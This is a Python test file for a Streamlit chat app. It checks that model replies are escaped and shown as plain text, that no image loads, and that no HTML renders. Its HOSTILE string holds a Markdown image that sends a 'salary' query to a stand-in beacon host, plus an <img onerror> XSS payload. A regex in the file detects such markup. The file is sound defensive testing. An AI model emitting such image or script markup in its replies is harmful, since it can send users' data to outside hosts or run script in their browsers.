"""Model replies and imported text are shown as text: no image is fetched, no HTML or markup
is rendered (issue 10, item 7)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from tests.browser_support import ARTIFACTS, chromium, running_app
from tests.ui.conftest import ROOT
from ui.safe import plain

HOSTILE = "![](https://beacon.invalid/?q=salary) <img src=x onerror=alert(1)> :red[x]"


def unescape(markdown: str) -> str:
    return re.sub(r"\\(.)", r"\1", markdown.replace("  \n", "\n"))


@given(st.text())
def test_plain_keeps_the_text_and_escapes_every_markup_character(text):
    shown = plain(text)
    assert unescape(shown) == text.replace("\r\n", "\n")
    # every ASCII punctuation character is escaped: nothing can start markup
    assert not re.search(r"(?<!\\)(?:\\\\)*[!\[<:$*_`]", shown.replace("\\\\", ""))


def test_the_main_page_shows_a_hostile_reply_as_text(fake_transport):
    fake_transport.reply_fn = lambda request: HOSTILE
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    for text in (HOSTILE, "and again"):
        at.chat_input[0].set_value(text).run()
        assert not at.exception, at.exception
    drawn = [m.value for m in at.markdown] + [c.value for c in at.caption]
    with_reply = [v for v in drawn if "beacon" in v]
    assert len(with_reply) >= 7  # the user line, six reply boxes, the conversations
    markup = re.compile(r"(?<!\\)(?:!(?<!\\)\[|<img|:red(?<!\\)\[)")
    assert markup.search(HOSTILE)  # the pattern does spot the raw reply
    assert not [v for v in with_reply if markup.search(v)]


@pytest.mark.browser
def test_no_image_element_and_no_fetch_in_a_real_browser():
    seen: list[str] = []
    with running_app("tests/ui/apps/untrusted_text.py") as url, chromium(1200, 900) as page:

        def watch(route):
            seen.append(route.request.url)
            if "beacon.invalid" in route.request.url:
                route.abort()
            else:
                route.continue_()

        page.route("**/*", watch)
        page.goto(url)
        page.wait_for_selector(".st-key-control img", state="attached", timeout=60_000)
        page.wait_for_timeout(1500)
        safe_imgs = page.eval_on_selector_all(".st-key-safe img", "els => els.length")
        safe_links = page.eval_on_selector_all(".st-key-safe a", "els => els.map(e => e.href)")
        safe_text = page.inner_text(".st-key-safe")
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "untrusted_text.png"))
    beacons = [u for u in seen if "beacon.invalid" in u]
    assert beacons and all("control" in u for u in beacons)  # the control did fetch: we'd see it
    assert safe_imgs == 0
    # a bare URL stays clickable (GFM autolinks it; nothing is fetched unless clicked), but a
    # Markdown link never is: no javascript: target
    assert all(href.startswith("https://beacon.invalid/safe") for href in safe_links)
    assert "![](https://beacon.invalid/safe.png?q=salary)" in safe_text
    assert "<img src='https://beacon.invalid/safe-html.png'>" in safe_text
